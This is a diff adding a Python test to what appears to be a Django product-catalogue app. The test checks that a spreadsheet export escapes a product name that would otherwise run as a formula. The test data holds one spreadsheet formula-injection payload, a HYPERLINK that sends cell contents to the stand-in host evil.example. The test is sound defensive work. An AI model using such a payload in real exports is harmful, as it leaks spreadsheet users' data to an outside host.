@@ -44,3 +44,17 @@ def test_the_catalogue_api_is_public() -> None:
     assert [r["product"] for r in rows] == ["星盾防火墙"]
     assert rows[0]["cpu"] == "FT-2000+/64" and rows[0]["os_label"].startswith("银河麒麟")
     assert "organisation" not in rows[0]
+
+
+def test_the_export_quotes_a_product_name_a_spreadsheet_would_run() -> None:
+    import io
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    adaptation(evil, vendor="某公司", cpu="D2000")
+    response = Client().get(reverse("centres_adaptation:catalogue-export"), {"q": "HYPERLINK"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    cell = sheet.cell(row=2, column=1)
+    assert cell.value == "'" + evil and cell.data_type == "s"
